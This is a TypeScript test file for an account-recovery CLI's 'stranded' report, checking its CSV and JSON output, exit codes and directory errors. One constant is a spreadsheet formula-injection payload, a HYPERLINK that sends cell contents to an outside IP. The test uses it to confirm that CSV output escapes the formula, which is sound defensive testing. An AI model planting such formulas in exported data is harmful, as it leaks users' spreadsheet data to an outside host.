import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { loadSettings } from '../../src/config/load-settings.ts';
import { createEmbeddedAccount } from '../../src/directory/embedded/create-embedded-account.ts';
import { openRuntime } from '../../src/main.ts';
import { createScratchFolder, removeScratchFolder } from '../servers/scratch.ts';
import { configurationDocument, runCommand, writeSettings } from './run-command.ts';

/** What a spreadsheet would run, and what would break a line. */
const FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")\n"x", y';
let folder: string;
let settings: string;

beforeEach(async () => {
  folder = await createScratchFolder('report');
  settings = writeSettings(folder);
  const document = join(folder, 'configuration.yaml');
  const section = { kind: 'embedded', id: 'people', label: 'People', protected: { logins: ['root'] } };
  const guests = { kind: 'embedded', id: 'guests', label: 'Guests' };
  writeFileSync(document, stringify(configurationDocument({ directories: [section, guests] })));
  expect((await runCommand(['--config', settings, 'config', 'apply', document])).exitCode).toBe(0);
  const runtime = await openRuntime(loadSettings(settings, {}).settings);
  for (const [directory, login, displayName] of [
    ['people', 'alice', 'Alice'],
    ['people', 'bruno', FORMULA],
    ['people', 'root', 'Root'],
    ['guests', 'guest', 'Guest'],
  ] as const) {
    const person = { directory, login, displayName, password: 'Some-Passw0rd-here' };
    await createEmbeddedAccount({ ...runtime, accounts: runtime.store.embedded }, person);
  }
  await runtime.close();
});
afterEach(() => removeScratchFolder(folder));

const keyturn = (...argv: string[]) => runCommand(['--config', settings, ...argv]);
const stranded = async (...argv: string[]) => {
  const { exitCode, output, errors } = await keyturn('report', 'stranded', ...argv);
  return { exitCode, errors, rows: parse(output, { columns: true }) as Record<string, string>[] };
};

it('lists whom a recovery would turn away, each with the reason that a recovery has', async () => {
  await keyturn('enrolment', 'add', 'alice', '--kind', 'email', '--address', 'alice@home.example');
  const before = await stranded();
  expect(before.exitCode).toBe(1);
  expect(before.errors).toContain('4 of 4 people could not recover now');
  expect(before.rows).toHaveLength(4);
  const row = (account: string) => before.rows.find((each) => each.account === account);
  expect(row('alice')).toMatchObject({ directory: 'people', reason: 'not-enrolled', missing: 'email + totp: no totp' });
  expect(row('guest')).toMatchObject({ directory: 'guests', reason: 'not-enrolled', missing: 'email + totp: no email, no totp' });
  expect(row('root')).toMatchObject({ reason: 'account-protected', detail: expect.stringMatching(/\S/) });
  await keyturn('enrolment', 'add', 'alice', '--kind', 'totp');
  const after = await stranded('--directory', 'people');
  expect(after.rows.map(({ account }) => account).toSorted()).toEqual(['bruno', 'root']);
  for (const { account, reason } of after.rows) {
    const [told] = JSON.parse((await keyturn('recovery', 'status', account ?? '', '--json')).output) as { reason: string }[];
    expect(told?.reason, account).toBe(reason);
  }
});

it('ends with 0 when nobody is stranded, and still says of how many', async () => {
  for (const [kind, ...more] of [['email', '--address', 'g@home.example'], ['totp']]) {
    await keyturn('enrolment', 'add', 'guest', '--kind', kind ?? '', ...more);
  }
  const { exitCode, errors, rows } = await stranded('--directory', 'guests');
  expect({ exitCode, rows }).toEqual({ exitCode: 0, rows: [] });
  expect(errors).toContain('0 of 1 people');
});

it('makes no formula of what people call themselves, and loses nothing of it', async () => {
  const { rows } = await stranded();
  expect(rows.find(({ account }) => account === 'bruno')?.name).toBe(`'${FORMULA}`);
  const lines = (await keyturn('report', 'stranded', '--json')).output.trimEnd().split('\n');
  const parsed = lines.map((line) => JSON.parse(line) as Record<string, string>);
  expect(parsed.find(({ account }) => account === 'bruno')?.name).toBe(FORMULA);
});

it('refuses a directory that there is not, naming those that there are', async () => {
  const { exitCode, errors, output } = await keyturn('report', 'stranded', '--directory', 'corp');
  expect(exitCode).toBe(1);
  expect(errors).toContain('directory.not-configured');
  expect(errors).toContain('guests');
  expect(output).toBe('');
});
